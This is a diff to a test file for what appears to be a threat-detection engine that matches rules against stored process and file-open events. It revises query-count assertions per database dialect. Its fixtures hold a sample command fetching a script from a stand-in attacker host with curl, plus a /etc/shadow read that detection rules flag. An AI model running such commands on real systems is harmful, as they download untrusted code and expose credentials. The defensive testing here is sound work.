@@ -61,7 +61,7 @@ for (const dialect of DIALECTS) {
       assert.equal(JSON.parse(rows[0].detail ?? '{}').cmdline, 'curl -s http://EVIL.example/x.sh');
     }));
 
-  test(`[${dialect}] a batch costs one read of its rows for all tables, and one more per table with matches, not one per rule`, (t) =>
+  test(`[${dialect}] a batch costs one read of its rows for all tables, and with matches one more statement per table and the insert (PostgreSQL: one), not one per rule`, (t) =>
     withStore(t, dialect, async (store) => {
       // Three rules match the curl row of batch 1 — one by a regular expression, which only the
       // engine decides on PostgreSQL — and one matches the /etc/shadow row of batch 2.
@@ -85,9 +85,11 @@ for (const dialect of DIALECTS) {
       };
       await huntFixture(store, (trx, b) => recordAlerts(trx.withPlugin(counting()), rules, b).then(() => {}));
       // Per batch: one read of its rows in every table the rules use (processes, file opens: one
-      // UNION ALL), one read of the matched rows per table with matches (with the regex rules' SQL
-      // as columns), one insert.
-      assert.deepEqual(statements, [3, 3]);
+      // UNION ALL); then, on SQLite, one read of the matched rows per table with matches (with the
+      // regex rules' SQL as columns) and one insert; on PostgreSQL (rowJson) one INSERT … SELECT
+      // that reads them (its regexes decided in JavaScript on these ASCII rows).
+      const perBatch = store.caps.rowJson === null ? 3 : 2;
+      assert.deepEqual(statements, [perBatch, perBatch]);
       const rows = await store.db.selectFrom('alerts').selectAll().orderBy('id').execute();
       const bySql = await huntSql(store.db, rules, { limit: 1000 });
       assert.deepEqual(rows.map((r) => r.rule).sort(), ['curl', 'evil', 'evil-re', 'shadow']);
@@ -121,6 +123,7 @@ for (const dialect of DIALECTS) {
           ...row
         } = a;
         assert.deepEqual(JSON.parse(r.detail ?? '{}'), JSON.parse(JSON.stringify(row)), r.rule);
+        assert.equal(r.detail, JSON.stringify(row), `${r.rule}: the same text`);
       }
     }));
 
